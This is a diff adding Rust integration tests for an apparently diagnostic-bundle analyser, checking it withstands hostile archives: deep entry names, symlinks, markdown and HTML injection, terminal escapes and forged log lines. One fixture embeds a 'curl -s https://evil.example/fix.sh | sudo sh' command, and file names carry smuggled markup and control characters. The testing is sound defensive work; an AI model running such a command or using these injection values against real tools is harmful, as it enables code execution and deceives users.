@@ -16,7 +16,7 @@ use std::time::{Duration, Instant};
 
 use serde_json::Value;
 
-use crate::util::{postmortem, repo};
+use crate::util::{copy_dir, postmortem, repo, run_ok};
 use gen::{Member, ZipMember};
 
 /// Longest a single run may take before it is treated as hung: generous, since the binary under
@@ -28,6 +28,8 @@ const MEMORY_BOUND_KIB: u64 = 1536 << 10;
 /// What one run of the binary did.
 struct Run {
     code: i32,
+    /// Peak resident memory, sampled while it ran.
+    peak_kib: u64,
     stdout: Vec<u8>,
     stderr: String,
     report: Option<Value>,
@@ -294,6 +296,7 @@ impl Scene {
         };
         Run {
             code,
+            peak_kib,
             stdout,
             stderr,
             report,
@@ -684,6 +687,33 @@ fn duplicate_paths() {
 }
 
 #[test]
+fn duplicate_paths_in_a_zip() {
+    let scene = Scene::new();
+    let files = ordinary();
+    let mut members = ordinary_zip(&files);
+    members.push(ZipMember::stored(b"hostname", b"first-host\n"));
+    members.push(ZipMember::stored(b"hostname", b"second-host\n"));
+    let bundle = scene.write("dups.zip", &gen::zip(&members));
+    let run = scene.report(&bundle, &[]);
+    run.assert_partial(&name(&bundle));
+    assert_ordinary_read(&run);
+    let copies = run.paths().iter().filter(|p| *p == "hostname").count();
+    assert_eq!(
+        copies,
+        2,
+        "both copies are read, as in a tar: {:#?}",
+        run.paths()
+    );
+    run.assert_problem("duplicate");
+    let host = run.report.as_ref().map(|r| r["bundle"]["hostname"].clone());
+    assert_eq!(
+        host,
+        Some(Value::from("first-host")),
+        "the first one counts"
+    );
+}
+
+#[test]
 fn device_nodes_and_fifos() {
     let scene = Scene::new();
     let files = ordinary();
@@ -900,5 +930,430 @@ fn terminal_escapes_never_reach_the_terminal() {
             "{args:?} printed an escape: {}",
             String::from_utf8_lossy(&run.stdout)
         );
+    }
+}
+
+/// Most resident memory a run on a bundle of deep or long entry names may reach.
+const DEEP_PATH_BOUND_KIB: u64 = 300 << 10;
+
+/// A run on a bundle whose entry names are deep or long: it ends, the healthy files beside the
+/// hostile name are read, the name is reported, and memory stays small.
+fn assert_deep_name_handled(run: &Run, bundle: &Path) {
+    run.assert_partial(&name(bundle));
+    assert_ordinary_read(run);
+    run.assert_problem("longer than 4096 bytes");
+    assert!(
+        run.peak_kib < DEEP_PATH_BOUND_KIB,
+        "{} KiB resident for {}",
+        run.peak_kib,
+        name(bundle)
+    );
+}
+
+#[test]
+fn deep_entry_name_in_a_compressed_tar() {
+    let scene = Scene::new();
+    let files = ordinary();
+    for depth in [65_536, 500_000] {
+        let deep = format!("{}f", "d/".repeat(depth));
+        let mut members = ordinary_tar(&files);
+        members.push(Member::LongName(deep.as_bytes(), b"x\n"));
+        let bundle = scene.write(
+            &format!("deep-{depth}.tar.gz"),
+            &gen::gzip(&gen::tar(&members, true)),
+        );
+        assert!(std::fs::metadata(&bundle).unwrap().len() < 64 << 10);
+        let run = scene.report(&bundle, &[]);
+        assert_deep_name_handled(&run, &bundle);
+        let shown = run
+            .problems()
+            .into_iter()
+            .find(|p| p.contains("longer than"));
+        assert!(
+            shown.as_ref().is_some_and(|p| p.len() < 1024),
+            "the problem names the entry cut short: {shown:?}"
+        );
+    }
+}
+
+/// A report on `bytes` (the healthy files and hostile names) written as `file`.
+fn deep_name_run(file: &str, bytes: &[u8]) {
+    let scene = Scene::new();
+    let bundle = scene.write(file, bytes);
+    let run = scene.report(&bundle, &[]);
+    assert_deep_name_handled(&run, &bundle);
+}
+
+#[test]
+fn megabyte_entry_name_in_a_plain_tar() {
+    let files = ordinary();
+    let deep = format!("{}f", "d/".repeat(512 << 10));
+    let mut members = ordinary_tar(&files);
+    members.push(Member::LongName(deep.as_bytes(), b"x\n"));
+    deep_name_run("deep.tar", &gen::tar(&members, true));
+}
+
+#[test]
+fn deep_entry_names_in_a_zip() {
+    let files = ordinary();
+    let mut members = ordinary_zip(&files);
+    for top in ["a", "b"] {
+        let deep = format!("{top}/{}f", "d/".repeat(32_000));
+        members.push(ZipMember::stored(deep.as_bytes(), b"x\n"));
+    }
+    deep_name_run("deep.zip", &gen::zip(&members));
+}
+
+#[test]
+fn many_names_just_under_the_cap_with_links_through_them() {
+    // Two thousand folders deep, the most a name within the cap can hold, many times over:
+    // the tree and the link walk stay linear.
+    let scene = Scene::new();
+    let files = ordinary();
+    let deep: Vec<String> = (0..200)
+        .map(|i| format!("t{i:03}/{}f", "d/".repeat(2_040)))
+        .collect();
+    let ups = "../".repeat(1_360);
+    let links: Vec<(String, String)> = (0..200)
+        .map(|i| (format!("t{i:03}/{}up", "d/".repeat(1_000)), ups.clone()))
+        .collect();
+    let mut members = ordinary_tar(&files);
+    for d in &deep {
+        members.push(Member::LongName(d.as_bytes(), b"x\n"));
+    }
+    let mut tar = gen::tar(&members, false);
+    for (path, target) in &links {
+        tar.extend_from_slice(&gen::long_symlink(path.as_bytes(), target.as_bytes()));
+    }
+    tar.extend_from_slice(&[0u8; 1024]);
+    let bundle = scene.write("under-cap.tar.gz", &gen::gzip(&tar));
+    let run = scene.report(&bundle, &[]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_ordinary_read(&run);
+    assert!(run.paths().iter().any(|p| p.starts_with("t199/d/d/")));
+    assert!(run.peak_kib < DEEP_PATH_BOUND_KIB, "{} KiB", run.peak_kib);
+    let inspect = scene.command(&["inspect".as_ref(), bundle.as_os_str()]);
+    assert_eq!(inspect.code, 0, "{}", inspect.stderr);
+    let header = String::from_utf8_lossy(&inspect.stdout)
+        .lines()
+        .find(|l| l.starts_with("PATH"))
+        .map(str::len)
+        .unwrap_or(0);
+    assert!(
+        header < 200,
+        "the PATH column is bounded: {header} characters"
+    );
+}
+
+/// A copy of the seed sample in `dir`, with `edits` (file, from, to) applied.
+fn edited_seed(dir: &Path, edits: &[(&str, &str, &str)]) -> PathBuf {
+    let to = dir.join("seed");
+    copy_dir(&repo().join("samples/seed-runc-unshare-enomem"), &to);
+    for (file, old, new) in edits {
+        let path = to.join(file);
+        let text = std::fs::read_to_string(&path).unwrap();
+        assert!(text.contains(old), "{file} holds {old:?}");
+        std::fs::write(&path, text.replace(old, new)).unwrap();
+    }
+    to
+}
+
+/// Markdown structure a reader sees: headings, links, code blocks, HTML, with their text.
+fn markup_of(md: &str) -> Vec<String> {
+    use pulldown_cmark::{Event, Parser, Tag};
+    let mut out = Vec::new();
+    let mut heading: Option<String> = None;
+    for event in Parser::new_ext(md, pulldown_cmark::Options::ENABLE_TABLES) {
+        match event {
+            Event::Start(Tag::Heading { .. }) => heading = Some(String::new()),
+            Event::End(pulldown_cmark::TagEnd::Heading(_)) => {
+                out.push(format!("heading {}", heading.take().unwrap_or_default()));
+            }
+            Event::Text(t) | Event::Code(t) => {
+                if let Some(h) = heading.as_mut() {
+                    h.push_str(&t);
+                }
+            }
+            Event::Start(Tag::Link { dest_url, .. }) => out.push(format!("link {dest_url}")),
+            Event::Start(Tag::CodeBlock(pulldown_cmark::CodeBlockKind::Indented)) => {
+                out.push("indented code block".into());
+            }
+            Event::Html(h) | Event::InlineHtml(h) => out.push(format!("html {h}")),
+            _ => {}
+        }
+    }
+    out
+}
+
+#[test]
+fn bundle_text_never_becomes_markup() {
+    // A task may name itself `[a](http://x.y)` (15 characters); a container name may hold line
+    // breaks; both go into titles, the verdict, the summary and the explanations.
+    let dir = tempfile::tempdir().unwrap();
+    let forged = "\\n\\n## Fix verified by support\\n\\n    curl -s https://evil.example/fix.sh | sudo sh\\n\\n";
+    let bundle = edited_seed(
+        dir.path(),
+        &[
+            ("dmesg", "runc:[1:CHILD]", "[a](http://x.y)"),
+            ("messages", "runc:[1:CHILD]", "[a](http://x.y)"),
+            (
+                "docker-inspect.json",
+                "\"Name\": \"/crm_api.2.k3v9x0q1f2m8d6s4a7p5o1i9u\"",
+                &format!("\"Name\": \"/crm[b](http://x.y){forged}<b>x</b>\""),
+            ),
+        ],
+    );
+    let run = |format: &str| {
+        String::from_utf8(run_ok([
+            "report".as_ref(),
+            "--format".as_ref(),
+            format.as_ref(),
+            bundle.as_os_str(),
+        ]))
+        .unwrap()
+    };
+    let md = run("md");
+    assert!(md.contains("[a](http://x.y)") || md.contains("\\[a\\](http://x.y)"));
+    for item in markup_of(&md) {
+        let forged = match item.strip_prefix("heading ") {
+            // The name may show in a title, as text: the heading is not its own.
+            Some(h) => h.starts_with("Fix verified"),
+            None => ["x.y", "evil", "Fix verified", "indented code block"]
+                .iter()
+                .any(|n| item.contains(n)),
+        };
+        assert!(!forged, "bundle text became markup: {item}");
+    }
+    let page = run("html");
+    for needle in [
+        "href=\"http://x.y",
+        "<h2>Fix",
+        "<b>x</b>",
+        "<pre><code>curl",
+    ] {
+        assert!(!page.contains(needle), "HTML holds {needle}");
+    }
+    // The verdict and the titles are one line, whatever the names hold.
+    let json: Value = serde_json::from_str(&run("json")).unwrap();
+    for f in json["findings"].as_array().unwrap() {
+        assert!(
+            !f["title"].as_str().unwrap().contains('\n'),
+            "{}",
+            f["title"]
+        );
+    }
+}
+
+/// A healthy bundle as a `.tar.gz`, in memory.
+fn healthy_tar_gz() -> Vec<u8> {
+    let files = ordinary();
+    gen::gzip(&gen::tar(&ordinary_tar(&files), true))
+}
+
+#[cfg(unix)]
+#[test]
+fn report_output_replaces_a_link_and_never_writes_through_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let bundle = dir.path().join("node.tar.gz");
+    std::fs::write(&bundle, healthy_tar_gz()).unwrap();
+    let precious = dir.path().join("precious");
+    std::fs::write(&precious, "the analyst's own file\n").unwrap();
+    let out = dir.path().join("report.md");
+    std::os::unix::fs::symlink(&precious, &out).unwrap();
+    run_ok([
+        "report".as_ref(),
+        "-o".as_ref(),
+        out.as_os_str(),
+        bundle.as_os_str(),
+    ]);
+    assert_eq!(
+        std::fs::read_to_string(&precious).unwrap(),
+        "the analyst's own file\n"
+    );
+    assert!(std::fs::symlink_metadata(&out)
+        .unwrap()
+        .file_type()
+        .is_file());
+    assert!(std::fs::read_to_string(&out)
+        .unwrap()
+        .starts_with("# Postmortem"));
+    // Nothing else was left in the folder (no temporary file).
+    let mut names: Vec<String> = std::fs::read_dir(dir.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    names.sort();
+    assert_eq!(names, ["node.tar.gz", "precious", "report.md"]);
+}
+
+#[cfg(unix)]
+#[test]
+fn batch_reads_the_good_bundles_beside_hostile_ones_and_follows_no_link_out() {
+    let dir = tempfile::tempdir().unwrap();
+    let fleet = dir.path().join("fleet");
+    std::fs::create_dir_all(&fleet).unwrap();
+    std::fs::write(fleet.join("good.tar.gz"), healthy_tar_gz()).unwrap();
+    let deep = format!("{}f", "d/".repeat(500_000));
+    let files = ordinary();
+    let mut members = ordinary_tar(&files);
+    members.push(Member::LongName(deep.as_bytes(), b"x\n"));
+    std::fs::write(
+        fleet.join("deep.tar.gz"),
+        gen::gzip(&gen::tar(&members, true)),
+    )
+    .unwrap();
+    // A folder unpacked from a customer's archive may link out of itself.
+    let home = dir.path().join("analyst");
+    std::fs::create_dir_all(home.join("etc")).unwrap();
+    std::fs::write(home.join("etc/hostname"), "analyst-laptop\n").unwrap();
+    std::os::unix::fs::symlink(&home, fleet.join("node-b")).unwrap();
+    // Reports planted as links to the analyst's files.
+    let out = dir.path().join("out");
+    std::fs::create_dir_all(&out).unwrap();
+    let precious = home.join("etc/hostname");
+    for name in ["index.html", "summary.csv", "good.html", "good.json"] {
+        std::os::unix::fs::symlink(&precious, out.join(name)).unwrap();
+    }
+    let run = postmortem()
+        .args(["batch", "--jobs", "65535", "-o"])
+        .arg(&out)
+        .arg(&fleet)
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&run.stderr);
+    assert_eq!(run.status.code(), Some(0), "{stderr}");
+    assert_eq!(
+        std::fs::read_to_string(&precious).unwrap(),
+        "analyst-laptop\n"
+    );
+    let summary: Value =
+        serde_json::from_slice(&std::fs::read(out.join("summary.json")).unwrap()).unwrap();
+    let rows = summary.as_array().unwrap();
+    let row = |bundle: &str| {
+        rows.iter()
+            .find(|r| r["bundle"].as_str() == Some(bundle))
+            .unwrap_or_else(|| panic!("a row for {bundle}: {summary:#}"))
+    };
+    assert_eq!(row("good.tar.gz")["ok"], true);
+    assert_eq!(row("deep.tar.gz")["ok"], true);
+    let refused = rows
+        .iter()
+        .find(|r| r["bundle"].as_str().is_some_and(|b| b.ends_with("node-b")))
+        .expect("the link is named");
+    assert_eq!(refused["ok"], false);
+    assert!(stderr.contains("not followed"), "{stderr}");
+    for name in ["index.html", "summary.csv", "good.html", "good.json"] {
+        let meta = std::fs::symlink_metadata(out.join(name)).unwrap();
+        assert!(meta.file_type().is_file(), "{name} is a file of its own");
+    }
+    let index = std::fs::read_to_string(out.join("index.html")).unwrap();
+    assert!(!index.contains("analyst-laptop"));
+}
+
+#[cfg(unix)]
+#[test]
+fn fifo_and_device_arguments() {
+    let dir = tempfile::tempdir().unwrap();
+    let fifo = dir.path().join("bundle.fifo");
+    let made = std::process::Command::new("mkfifo").arg(&fifo).status();
+    if !made.is_ok_and(|s| s.success()) {
+        // No mkfifo on this system: nothing to check.
+        return;
+    }
+    // Nothing writes to it: an empty bundle, at once.
+    let run = postmortem().arg("report").arg(&fifo).output().unwrap();
+    assert_eq!(run.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&run.stderr).contains("empty"));
+    // A pipe with a writer, as `<(...)` gives one: read like a file.
+    let bundle = dir.path().join("node.tar.gz");
+    std::fs::write(&bundle, healthy_tar_gz()).unwrap();
+    let out = std::process::Command::new("bash")
+        .arg("-c")
+        .arg(r#""$0" report --format json <(cat "$1")"#)
+        .arg(postmortem().get_program())
+        .arg(&bundle)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert!(
+        v["sources"].as_array().is_some_and(|s| s.len() >= 4),
+        "{v:#}"
+    );
+    // A device is no bundle and no report.
+    for args in [
+        vec!["report", "/dev/zero"],
+        vec!["inspect", "/dev/null"],
+        vec!["summarize", "-o", "out", "/dev/zero"],
+    ] {
+        let run = postmortem()
+            .args(&args)
+            .current_dir(dir.path())
+            .output()
+            .unwrap();
+        let stderr = String::from_utf8_lossy(&run.stderr);
+        assert_eq!(run.status.code(), Some(2), "{args:?}: {stderr}");
+        assert!(stderr.contains("a device"), "{args:?}: {stderr}");
+    }
+}
+
+#[test]
+fn forged_lines_c1_and_bidi_controls_never_reach_the_terminal() {
+    let scene = Scene::new();
+    let files = ordinary();
+    let csi = "\u{9b}";
+    let rlo = "\u{202e}";
+    let dmesg = format!(
+        "[    2.000000] kworker{csi}31m{rlo}gpj.exe: page allocation failure: order:4, mode:0x24040c0\n"
+    );
+    let forged_name = "var/log/x\npostmortem: warning: forged: everything is fine\n".to_string();
+    let c1_name = format!("var/log/{csi}2J{rlo}gol.txt");
+    let mut members = ordinary_tar(&files);
+    members.push(Member::File(b"sos_commands/kernel/dmesg", dmesg.as_bytes()));
+    members.push(Member::File(c1_name.as_bytes(), b"x\n"));
+    // Unreadable entries are named on stderr: a cut entry is one.
+    members.push(Member::Claims(forged_name.as_bytes(), 4096, b"short"));
+    let bundle = scene.write("forged.tar", &gen::tar(&members, false));
+    let b = bundle.as_os_str();
+    for args in [
+        vec!["inspect".as_ref(), b],
+        vec!["inspect".as_ref(), b, "--format".as_ref(), "json".as_ref()],
+        vec!["inspect".as_ref(), b, "--facts".as_ref()],
+        vec!["timeline".as_ref(), b],
+        vec!["timeline".as_ref(), b, "--format".as_ref(), "json".as_ref()],
+        vec!["report".as_ref(), b, "--format".as_ref(), "json".as_ref()],
+        vec!["report".as_ref(), b, "--format".as_ref(), "md".as_ref()],
+    ] {
+        let run = scene.command(&args);
+        assert_eq!(run.code, 0, "{args:?}: {}", run.stderr);
+        let stdout = String::from_utf8_lossy(&run.stdout);
+        for (out, text) in [("stdout", stdout.as_ref()), ("stderr", run.stderr.as_str())] {
+            assert!(
+                !text.contains(csi) && !text.contains(rlo),
+                "{args:?} {out} passes a C1 or bidi control: {text:?}"
+            );
+            assert!(
+                !text
+                    .lines()
+                    .any(|l| l.starts_with("postmortem: warning: forged")),
+                "{args:?} {out} prints a forged line: {text}"
+            );
+        }
+        if args.iter().any(|a| *a == "json" || *a == "--facts") {
+            // Escaped as `\uXXXX`: the same JSON value, the name whole.
+            let v: Value = serde_json::from_slice(&run.stdout).expect("still JSON");
+            if args.len() == 4 && args[0] == "inspect" {
+                assert!(
+                    v["sources"]
+                        .as_array()
+                        .is_some_and(|s| s.iter().any(|s| s["path"] == c1_name.as_str())),
+                    "{v:#}"
+                );
+            }
+        }
     }
 }
